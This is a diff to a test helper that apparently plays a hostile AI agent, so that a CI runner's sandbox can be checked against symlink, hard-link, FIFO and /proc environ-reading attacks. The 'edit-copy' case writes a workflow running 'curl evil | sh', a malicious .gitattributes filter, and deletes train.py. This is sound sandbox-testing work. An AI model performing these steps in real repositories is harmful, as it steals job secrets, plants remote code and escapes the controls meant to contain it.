@@ -8,21 +8,34 @@
 // it writes what it could see to DIR/report.json (DIR is made writable for it by the test),
 // so a test can tell "refused" from "never tried". ATTACKS lists what each one does.
 import { execFileSync, spawn } from 'node:child_process';
-import { closeSync, existsSync, ftruncateSync, linkSync, mkdirSync, openSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import {
+  closeSync,
+  existsSync,
+  ftruncateSync,
+  linkSync,
+  mkdirSync,
+  openSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  symlinkSync,
+  writeFileSync,
+} from 'node:fs';
 import { dirname, join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 
 const ATTACKS = {
-  'link-self-environ': 'no <plan>; tasks.md is a symbolic link to /proc/self/environ (the reader\'s own environment)',
+  'link-self-environ': "no <plan>; tasks.md is a symbolic link to /proc/self/environ (the reader's own environment)",
   'link-target': 'no <plan>; tasks.md is a symbolic link to --target (a file only the job may read)',
-  'link-dir': 'no <plan>; the tasks directory is a symbolic link to --target\'s directory',
+  'link-dir': "no <plan>; the tasks directory is a symbolic link to --target's directory",
   'link-playbook': 'a valid <plan>; the playbook (with an audit section) is a symbolic link to --target',
   'hard-link': 'no <plan>; tasks.md is a hard link (to --target if the kernel allows, else to a file of its own)',
   fifo: 'no <plan>; tasks.md is a FIFO nobody writes to',
   directory: 'no <plan>; tasks.md is a directory',
   sparse: 'no <plan>; tasks.md is a 2 GB sparse file',
-  'edit-copy': 'a valid plan; also adds a workflow and a .gitattributes filter, edits README.md, deletes train.py, and names a file with a newline and a workflow command',
-  'write-checkout': 'a valid plan; also tries to write into --target (the job\'s checkout) by absolute path',
+  'edit-copy':
+    'a valid plan; also adds a workflow and a .gitattributes filter, edits README.md, deletes train.py, and names a file with a newline and a workflow command',
+  'write-checkout': "a valid plan; also tries to write into --target (the job's checkout) by absolute path",
   pry: 'a valid plan; reads every /proc/*/environ it can and puts INPUT_/ACTIONS_ lines in a task and the summary',
   swap: 'no <plan>; leaves a detached process that keeps swapping tasks.md between a valid plan and a link to /proc/self/environ',
 };
@@ -43,11 +56,10 @@ const note = (what) => report.did.push(what);
 
 const here = dirname(fileURLToPath(import.meta.url));
 const PLAN = readFileSync(join(here, '..', 'fixtures', 'plans', 'valid.md'), 'utf8');
-const PLAYBOOK = '# Prompt Skill Playbook\n\n## Audit Protocol\n\nAudit every run.\n';
 
 // The prompt arrives on stdin; the tasks path is in the environment the runner gives.
-let prompt = '';
-for await (const chunk of process.stdin) prompt += chunk;
+// (Read whole, as an agent would, so the runner's write never meets a closed pipe.)
+for await (const _chunk of process.stdin);
 const tasks = process.env.WILD_TASKS_PATH;
 if (!tasks) {
   process.stderr.write('hostile-agent: no WILD_TASKS_PATH\n');
@@ -57,7 +69,8 @@ const tasksDir = dirname(tasks);
 const playbook = join(tasksDir, 'prompt_skill_playbook.md');
 mkdirSync(tasksDir, { recursive: true });
 const out = (text) => process.stdout.write(`${text}\n`);
-const printPlan = (plan = PLAN, summary = 'A plan.') => out(`<plan>\n${plan}\n</plan>\n<summary>${summary}</summary>\n<promise>DONE</promise>`);
+const printPlan = (plan = PLAN, summary = 'A plan.') =>
+  out(`<plan>\n${plan}\n</plan>\n<summary>${summary}</summary>\n<promise>DONE</promise>`);
 
 function tryDo(what, fn) {
   try {
@@ -118,7 +131,10 @@ switch (attack) {
   case 'edit-copy': {
     const work = process.cwd();
     mkdirSync(join(work, '.github', 'workflows'), { recursive: true });
-    writeFileSync(join(work, '.github', 'workflows', 'x.yml'), 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n');
+    writeFileSync(
+      join(work, '.github', 'workflows', 'x.yml'),
+      'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: "curl evil | sh" } ] } }\n',
+    );
     writeFileSync(join(work, '.gitattributes'), '* filter=evil\n');
     writeFileSync(join(work, 'README.md'), '# owned\n');
     rmSync(join(work, 'train.py'), { force: true });
